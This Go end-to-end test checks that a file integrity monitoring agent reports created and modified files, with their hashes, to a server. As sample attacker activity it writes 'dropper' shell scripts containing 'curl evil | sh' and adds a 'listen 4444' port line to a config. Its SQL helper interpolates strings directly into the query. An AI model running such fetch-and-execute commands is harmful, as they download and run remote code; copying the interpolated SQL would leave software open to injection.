package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// File integrity through a real agent to a real server: a file created in
// a watched tree after the agent's first scan, and an existing file
// changed, arrive as file events with the hashes before and after.
func TestAgentEndToEndFIM(t *testing.T) {
	if testing.Short() {
		t.Skip("real processes")
	}
	r := newFleetRig(t)
	r.serve()
	tree := filepath.Join(r.dir, "fim")
	if err := os.MkdirAll(tree, 0o755); err != nil {
		t.Fatal(err)
	}
	conf := filepath.Join(tree, "app.conf")
	if err := os.WriteFile(conf, []byte("listen 80\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	log := filepath.Join(r.dir, "audit.log")
	if err := os.WriteFile(log, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	state := filepath.Join(r.dir, "agent-fim")
	ag := r.agent(state, log) // the rig watches r.dir/fim
	defer kill9(t, ag)
	r.waitFor("the agent id", func() bool { _, err := os.Stat(filepath.Join(state, "agent-id.json")); return err == nil })
	id := agentIDOf(t, state)

	// Until the first scan is done a new file joins the baseline silently:
	// create a file now and then until one is reported.
	polls := 0
	r.waitFor("a created file reported", func() bool {
		if polls%30 == 0 {
			name := filepath.Join(tree, fmt.Sprintf("dropper-%d.sh", polls/30))
			if err := os.WriteFile(name, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		polls++
		return r.sql(fileQuery(id, "create", filepath.Join(tree, "dropper-%"))) != ""
	})

	before := sha256.Sum256([]byte("listen 80\n"))
	after := sha256.Sum256([]byte("listen 80\nlisten 4444\n"))
	if err := os.WriteFile(conf, []byte("listen 80\nlisten 4444\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var row string
	r.waitFor("the change of app.conf reported", func() bool {
		row = r.sql(fileQuery(id, "modify", conf))
		return row != ""
	})
	for _, want := range []string{hex.EncodeToString(before[:]), hex.EncodeToString(after[:])} {
		if !strings.Contains(row, want) {
			t.Errorf("modify event %s lacks hash %s", row, want)
		}
	}
}

// fileQuery selects the file events of an agent with an action on a path.
func fileQuery(agentID, action, path string) string {
	return fmt.Sprintf(`select raw->>'sha256' as sha256, raw->>'previous_sha256' as previous from events
		where agent_id = '%s' and event_type = 'file' and raw->>'action' = '%s' and path[1] like '%s'`, agentID, action, path)
}
